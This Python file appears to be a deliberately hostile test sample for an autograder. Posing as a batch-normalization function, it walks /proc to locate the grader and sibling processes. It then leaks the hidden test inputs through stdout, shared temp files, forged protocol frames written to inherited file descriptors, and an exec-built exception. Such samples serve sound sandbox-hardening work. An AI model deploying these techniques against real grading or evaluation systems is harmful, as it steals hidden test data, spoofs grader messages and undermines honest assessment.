"""Hostile: hidden inputs into reports.  Prints every input, writes them to a shared file
that a concurrent (visible) run prints, forges a hello frame with them on the result
descriptor, and raises with them in the message, in a function named after them.
"""

import json
import os
import signal
import sys

import numpy as np


def _argv(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return int(f.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def graders():
    """The grading processes above this one, found through /proc as an attacker would."""
    found, pid, seen = [], os.getppid(), set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        argv = _argv(pid)
        if any(a.endswith(("/grade", "run_autograder", "grade_driver.py")) for a in argv[:3]):
            found.append((pid, argv))
        pid = _ppid(pid)
    return found


def family():
    """Every process under the topmost grader: the grader, its servers, classmates' workers."""
    top = graders()
    if not top:
        return []
    children = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            children.setdefault(_ppid(int(name)), []).append(int(name))
    out, stack = [], [top[-1][0]]
    while stack:
        pid = stack.pop()
        out.append(pid)
        stack.extend(children.get(pid, []))
    return [p for p in out if p != os.getpid()]


def option(*names):
    """Values of the grader's command-line options ``names``."""
    values = []
    for _, argv in graders():
        for i, a in enumerate(argv[:-1]):
            if a in names:
                values.append(argv[i + 1])
    return values


def write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


import glob
import struct
import tempfile

SHARED = [os.path.join(tempfile.gettempdir(), "nk-leak.txt"), "nk-leak.txt"]


def _spill(text):
    print(text)
    sys.stderr.write(text + "\n")
    for path in SHARED:
        try:
            with open(path, "a") as f:
                f.write(text + "\n")
        except OSError:
            pass
    head = json.dumps({"op": "hello", "warnings": [text]}).encode()
    for fd in range(3, 12):
        try:
            os.write(fd, struct.pack("!4sIQ", b"NKSB", len(head), 0) + head)
        except OSError:
            pass


def _show_shared():
    for path in SHARED + glob.glob("/tmp/*/nk-leak.txt"):
        try:
            with open(path) as f:
                print(f.read())
        except OSError:
            pass


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    np.set_printoptions(threshold=10**6, precision=10)
    text = "LEAK " + repr(gamma.tolist()) + repr(beta.tolist()) + repr(X.shape)
    _spill(text)
    _show_shared()
    name = "leak_" + "_".join(str(v).replace(".", "p").replace("-", "m") for v in beta.tolist())
    space = {}
    exec(f"def {name}():\n    raise ValueError({text!r})\n", space)
    space[name]()
